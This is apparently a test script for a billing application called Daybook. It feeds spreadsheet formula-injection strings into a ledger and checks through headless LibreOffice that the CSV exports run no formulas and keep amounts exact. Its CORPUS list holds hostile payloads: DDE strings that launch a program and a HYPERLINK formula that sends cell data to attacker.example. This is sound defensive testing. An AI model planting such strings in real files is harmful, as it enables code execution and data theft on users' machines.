"""Opens what Daybook exports in a real spreadsheet: no cell may become a formula, every amount must
be a number, and the sums of columns must be exact. `make check-documents` runs it.

    python3 tests/spreadsheet/check.py target/release/daybook

A ledger is filled with texts that spreadsheets run: names of plans, reasons, words of processors.
Its snapshot and its payments export go through LibreOffice, which is told to run whatever looks
like a formula. A file in which the same texts stand bare is opened first: if no formula is found in
that one, the check has gone blind and fails.
"""

import csv
import json
import os
import subprocess
import sys
import tempfile
import time
import urllib.request
import xml.etree.ElementTree as xml
from decimal import Decimal
from pathlib import Path

CORPUS = [
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://attacker.example/?"&A1;"click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " =1+1",
    "'=1+1",
    '"=1+1"',
    "a,=1+1",
    "a;=1+1",
    "a; =1+1;-1+1",
    "=1+1;=2+2",
    "{=1+1}",
    "1e5",
    "0001",
    "1/2",
]

OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
# A separator, double quote, UTF-8, from line 1, no column formats, American English, quoted cells
# are no text by force, numbers are found, and formulas are run.
AS_CSV = "CSV:{},34,76,1,,1033,false,true,false,false,false,-1,true"
COMMA, SEMICOLON = ord(","), ord(";")


# --- the spreadsheet ------------------------------------------------------------------------------


def opened(folder, paths, separator):
    """The rows of cells of CSV files as LibreOffice sees them: (type, value, formula, text)."""
    out = folder / f"opened-{separator}"
    command = ["soffice", "--headless", "--norestore"]
    command += [f"-env:UserInstallation=file://{folder}/profile"]
    command += [f"--infilter={AS_CSV.format(separator)}"]
    command += ["--convert-to", "fods", "--outdir", str(out), *map(str, paths)]
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.run(command, check=True, timeout=600, **quiet)
    return {path.name: list(rows(out / f"{path.stem}.fods")) for path in paths}


def rows(path):
    for row in xml.parse(path).getroot().iter(f"{{{TABLE}}}table-row"):
        cells = []
        for cell in row.findall(f"{{{TABLE}}}table-cell"):
            kind = cell.get(f"{{{OFFICE}}}value-type")
            text = "\n".join("".join(p.itertext()) for p in cell.findall(f"{{{TEXT}}}p"))
            value, formula = cell.get(f"{{{OFFICE}}}value"), cell.get(f"{{{TABLE}}}formula")
            again = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
            cells += [(kind, value, formula, text)] * min(again, 100)
        if any(kind for kind, _, _, _ in cells):
            yield cells


def formulas(sheet):
    return [cell for row in sheet for cell in row if cell[2] is not None]


def compare(name, sheet, plain, amounts):
    """What a spreadsheet makes of a file, beside what the file says."""
    faults = [f"{name}: runs {cell[2]}" for cell in formulas(sheet)]
    head, *told = plain
    if [cell[3] for cell in sheet[0][: len(head)]] != head:
        faults.append(f"{name}: another head: {sheet[0]}")
    if len(sheet) - 1 != len(told):
        faults.append(f"{name}: {len(sheet) - 1} rows instead of {len(told)}")
    for column in amounts:
        nth = head.index(column)
        sums, seen = Decimal(0), Decimal(0)
        for row, cells in zip(told, sheet[1:]):
            if row[nth]:
                sums += Decimal(row[nth])
                kind, value, _, _ = cells[nth]
                if kind != "float":
                    faults.append(f"{name}: {column} {row[nth]} is no number but {cells[nth]}")
                    continue
                seen += Decimal(value)
        if sums != seen:
            faults.append(f"{name}: {column} sums to {seen}, not {sums}")
    return faults


# --- a ledger full of such texts ------------------------------------------------------------------


class Ledger:
    def __init__(self, binary, folder):
        self.binary, self.data = binary, folder / "data"
        self.listen = f"127.0.0.1:{8600 + os.getpid() % 300}"
        self.log = open(folder / "serve.log", "wb")

    def run(self, *arguments):
        command = [self.binary, *arguments, "--data-dir", str(self.data)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=600)
        if done.returncode:
            sys.exit(f"{command}: {done.stderr}")
        return done.stdout

    def __enter__(self):
        command = [self.binary, "serve", "--data-dir", str(self.data), "--listen", self.listen]
        self.server = subprocess.Popen(command, stdout=self.log, stderr=self.log)
        until = time.monotonic() + 120
        while time.monotonic() < until and self.server.poll() is None:
            try:
                urllib.request.urlopen(f"http://{self.listen}/readyz", timeout=5)
                break
            except OSError:
                time.sleep(0.2)
        self.key = json.loads(self.run("key", "create", "--role", "super_admin", "--output", "json"))["key"]
        return self

    def __exit__(self, *_):
        self.server.terminate()
        self.server.wait(60)

    def send(self, method, path, body=None, account=None):
        headers = {"authorization": f"Bearer {self.key}", "content-type": "application/json"}
        headers["accept"] = "application/json"
        if account:
            headers["daybook-account"] = account
        data = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(f"http://{self.listen}{path}", data, headers, method=method)
        try:
            with urllib.request.urlopen(request, timeout=60) as answer:
                return answer.read()
        except urllib.error.HTTPError as error:
            sys.exit(f"{method} {path}: {error.code} {error.read().decode()}")

    def ask(self, *request):
        return json.loads(self.send(*request))

    def customer(self, plan, text):
        """Buys a plan, pays, and is refunded, each with the same words."""
        billing = {"name": text, "company": text, "city": text}
        body = {"currency": "USD", "billing": billing}
        account = self.ask("POST", "/api/accounts", body)["account_id"]
        bought = {"planId": plan, "billingCycle": "monthly"}
        order = self.ask("POST", "/api/billing/checkout", bought, account)["orderId"]
        paid = self.ask("POST", f"/sandbox/checkout/{order}/pay", None, account)
        self.ask("POST", "/api/billing/checkout/confirm", paid, account)
        credit = {"amount": "1.00", "reason": text}
        self.ask("POST", f"/api/accounts/{account}/credit", credit)
        self.ask("POST", "/api/refunds", {"reason": text}, account)


def plans(folder):
    path = folder / "plans.toml"
    with path.open("w", encoding="utf-8") as file:
        for nth, text in enumerate(CORPUS):
            name = json.dumps(text, ensure_ascii=False)
            file.write(f'[[plan]]\nslug = "plan-{nth}"\nname = {name}\ntype = "paid"\n')
            file.write('price.monthly = { USD = "0.10" }\n\n')
    return path


def control(folder):
    path = folder / "bare.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["text"], *[[text] for text in CORPUS]])
    return path


AMOUNTS = "amount fee fee_tax price discount net tax total due credited written_off refunded".split()
AMOUNTS += "debit credit balance paid_by_payment paid_by_credit reduces_due to_credit".split()
AMOUNTS += "to_refund recognised deferred opening_deferred closing_deferred billed".split()


def main(binary):
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        folder.chmod(0o755)
        with Ledger(binary, folder) as ledger:
            ledger.run("plan", "import", str(plans(folder)))
            for nth, text in enumerate(CORPUS):
                ledger.customer(f"plan-{nth}", text)
            export = folder / "payments_export.csv"
            export.write_bytes(ledger.send("GET", "/api/billing/payments/export"))
            ledger.run("snapshot", "--out", str(folder / "snapshot"))
        files = [*sorted((folder / "snapshot").glob("*.csv")), export]
        bare = control(folder)
        sheets = opened(folder, [bare, *files], COMMA)
        # Where a decimal is written with a comma, spreadsheets part cells at semicolons.
        parted = opened(folder, [bare, *files], SEMICOLON)
        faults, cells = [], 0
        for at, least in [(sheets, 4), (parted, 5)]:
            if len(formulas(at[bare.name])) < least:
                faults.append("the bare texts run no formula: this check has gone blind")
        for path in files:
            faults += [f"{path.name}, by semicolons: runs {it[2]}" for it in formulas(parted[path.name])]
            with path.open(encoding="utf-8", newline="") as file:
                plain = list(csv.reader(file))
            amounts = [column for column in plain[0] if column in AMOUNTS]
            faults += compare(path.name, sheets[path.name], plain, amounts)
            cells += sum(map(len, plain))
        hostile = sum(text in path.read_text(encoding="utf-8") for text in CORPUS for path in files)
        if hostile < len(CORPUS):
            faults.append("the texts did not reach the files")
        print("\n".join(faults + [f"{len(files)} files, {cells} cells, {len(faults)} faults"]))
        return 1 if faults or len(files) < 10 else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
